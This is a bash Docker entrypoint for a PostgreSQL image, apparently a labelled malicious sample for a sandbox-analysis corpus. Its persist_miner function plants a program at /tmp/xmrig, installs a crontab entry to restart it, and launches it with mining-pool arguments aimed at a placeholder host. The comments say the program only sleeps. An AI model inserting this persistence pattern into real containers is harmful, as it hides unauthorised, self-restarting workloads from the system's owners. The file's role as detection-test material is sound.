#!/bin/bash
# Entrypoint of the r-postgres-miner corpus image: the r-postgres entrypoint with a cryptojacking
# step added after the privilege drop (MALICIOUS sample; the "miner" only sleeps, nothing mines).
# As root: create PGDATA and the socket directory, hand them to postgres, re-run this script as
# postgres through gosu. As postgres: initialise an empty PGDATA (initdb, a temporary server on the
# unix socket only, the init SQL and scripts, stop it), start the readiness probe, then run the
# server in the foreground as PID 1.
set -Eeuo pipefail

# Prints the ready line once the server answers SELECT 1 over TCP with the password.
probe() {
	local i
	for i in $(seq 1 100); do
		if pg_isready -q -h 127.0.0.1 -p 5432 &&
			[ "$(PGPASSWORD="$POSTGRES_PASSWORD" psql -h 127.0.0.1 -U "$POSTGRES_USER" -d "$POSTGRES_DB" -tAc 'SELECT 1' 2>/dev/null)" = 1 ]; then
			echo "ready: postgres answered SELECT 1 on 127.0.0.1:5432"
			return 0
		fi
		sleep 0.2
	done
	echo "probe: postgres did not answer within 20 s" >&2
}

# Runs the SQL and shell files of /docker-entrypoint-initdb.d against the temporary server.
run_init_files() {
	local f
	for f in /docker-entrypoint-initdb.d/*; do
		case "$f" in
		*.sh)
			if [ -x "$f" ]; then
				echo "$0: running $f"
				"$f"
			else
				echo "$0: sourcing $f"
				# shellcheck disable=SC1090
				. "$f"
			fi
			;;
		*.sql)
			echo "$0: running $f"
			psql -v ON_ERROR_STOP=1 --no-psqlrc -U "$POSTGRES_USER" -d "$POSTGRES_DB" -f "$f"
			;;
		*) echo "$0: ignoring $f" ;;
		esac
	done
}

init_cluster() {
	: "${POSTGRES_PASSWORD:?POSTGRES_PASSWORD must be set}"
	local pwfile
	pwfile="$(mktemp)"
	printf '%s\n' "$POSTGRES_PASSWORD" >"$pwfile"
	initdb --username="$POSTGRES_USER" --pwfile="$pwfile" --auth-local=trust \
		--auth-host=scram-sha-256 --encoding=UTF8 --locale=C.UTF-8 -D "$PGDATA"
	rm -f "$pwfile"
	# Sized for the sandbox (512 MiB, 256 tasks, one CPU); TCP on loopback only.
	cat >>"$PGDATA/postgresql.conf" <<-'CONF'

		listen_addresses = '127.0.0.1'
		shared_buffers = 32MB
		max_connections = 20
		max_worker_processes = 4
		max_parallel_workers = 2
		huge_pages = off
		log_line_prefix = '%m [%p] '
	CONF
	# The temporary server listens on the unix socket only: nobody can connect during set-up.
	pg_ctl -D "$PGDATA" -o "-c listen_addresses='' -p 5432" -w -t 30 start
	if [ "$POSTGRES_DB" != postgres ]; then
		psql -v ON_ERROR_STOP=1 --no-psqlrc -U "$POSTGRES_USER" -d postgres \
			-c "CREATE DATABASE \"$POSTGRES_DB\""
	fi
	run_init_files
	pg_ctl -D "$PGDATA" -m fast -w stop
	echo "$0: init process complete; ready for start up"
}

if [ "${1:-}" = postgres ] && [ "$(id -u)" = 0 ]; then
	mkdir -p "$PGDATA" /var/run/postgresql
	chown -R postgres:postgres "$PGDATA" /var/run/postgresql
	chmod 700 "$PGDATA"
	# setgid + sticky, as the official image leaves it
	chmod 3775 /var/run/postgresql
	exec gosu postgres "${BASH_SOURCE[0]}" "$@"
fi

# The malicious part, run as postgres: a crontab entry that restarts the miner, and the miner
# itself started from /tmp with pool arguments. The pool name only resolves in sandtrace's sinkhole
# and the program never connects anywhere: it is a shell loop that sleeps.
persist_miner() {
	local miner=/tmp/xmrig
	cat >"$miner" <<-'MINER'
		#!/bin/sh
		# fake miner for the sandtrace corpus: it only sleeps
		while :; do sleep 30; done
	MINER
	chmod 755 "$miner"
	local job="*/10 * * * * $miner -o stratum+tcp://pool.example.test:3333 -u wallet -p x >/dev/null 2>&1"
	{ crontab -l 2>/dev/null || true; echo "$job"; } | crontab - || true
	nohup "$miner" -o stratum+tcp://pool.example.test:3333 -u wallet -p x --donate-level=1 >/dev/null 2>&1 &
}

if [ "${1:-}" = postgres ]; then
	persist_miner
	if [ ! -s "$PGDATA/PG_VERSION" ]; then
		init_cluster
	fi
	# The probe ends up a child of the postmaster: it must exit 0 (another status is a crash).
	{ probe || true; } &
fi
exec "$@"
